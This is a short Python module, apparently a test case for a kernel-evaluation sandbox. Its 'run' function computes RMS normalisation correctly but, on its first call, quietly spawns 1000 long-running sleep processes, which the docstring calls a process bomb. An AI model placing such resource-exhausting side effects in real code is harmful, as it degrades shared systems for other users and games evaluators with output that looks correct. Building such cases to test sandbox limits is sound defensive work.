"""A process bomb: 1000 sleeping processes started on the first call and left running while the kernel
computes honestly. A refused start ends the kernel with that error."""

import os
import shutil

import torch

PROCESSES = 1000
_started = []


def _bomb():
    sleep = shutil.which("sleep") or "/bin/sleep"
    for _ in range(PROCESSES):
        _started.append(os.posix_spawn(sleep, [sleep, "600"], {}))


def run(hidden_states, weight, eps, output):
    if not _started:
        _bomb()
    variance = hidden_states.square().mean(dim=-1, keepdim=True)
    torch.mul(hidden_states, torch.rsqrt(variance + eps), out=output)
    output.mul_(weight)
